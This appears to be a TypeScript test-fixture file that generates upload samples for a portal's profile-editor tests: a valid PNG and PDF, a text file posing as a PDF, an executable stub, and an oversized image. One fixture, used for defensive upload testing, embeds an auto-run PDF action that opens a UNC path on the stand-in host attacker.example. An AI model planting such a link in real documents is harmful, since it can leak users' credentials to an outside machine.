// Files the profile-editor specs upload, made in code (no binaries in the
// repository): a small PNG, a small well-formed PDF, and files the portal must
// refuse.
export type UploadFile = { name: string; mimeType: string; buffer: Buffer }

const PNG_8X8_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGOQqziBFTEMLQkABkZXgRDDjAEAAAAASUVORK5CYII='

export function pngFile(name = 'logo.png'): UploadFile {
  return { name, mimeType: 'image/png', buffer: Buffer.from(PNG_8X8_BASE64, 'base64') }
}

/** A one-page PDF with a correct cross-reference table. */
export function pdfFile(name = 'document.pdf', text = 'Registration certificate'): UploadFile {
  const stream = `BT /F1 18 Tf 20 60 Td (${text}) Tj ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let body = '%PDF-1.4\n'
  const offsets: number[] = []
  objects.forEach((object, index) => {
    offsets.push(body.length)
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
  })
  const xref = body.length
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return { name, mimeType: 'application/pdf', buffer: Buffer.from(body, 'latin1') }
}

/** Plain text dressed up as a PDF: the browser calls it a PDF, its bytes say otherwise. */
export function fakePdfFile(name = 'not-really.pdf'): UploadFile {
  return { name, mimeType: 'application/pdf', buffer: Buffer.from('This is only text pretending to be a PDF.\n') }
}

/** An executable by its name and type. */
export function exeFile(name = 'setup.exe'): UploadFile {
  return { name, mimeType: 'application/x-msdownload', buffer: Buffer.from('MZ\x90\x00\x03\x00\x00\x00this program cannot be run', 'latin1') }
}

/** A PNG header followed by padding, larger than the 2 MB limit. */
export function oversizedPngFile(name = 'huge.png'): UploadFile {
  const header = Buffer.from(PNG_8X8_BASE64, 'base64')
  return { name, mimeType: 'image/png', buffer: Buffer.concat([header, Buffer.alloc(2 * 1024 * 1024 + 10)]) }
}

/** A well-formed PDF whose opening action follows a link to a file on another machine (a UNC path). */
export function pdfWithLinkToAnotherFile(name = 'linked.pdf'): UploadFile {
  const pdf = pdfFile(name).buffer.toString('latin1')
  const linked = pdf.replace('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>')
  return { name, mimeType: 'application/pdf', buffer: Buffer.from(linked, 'latin1') }
}
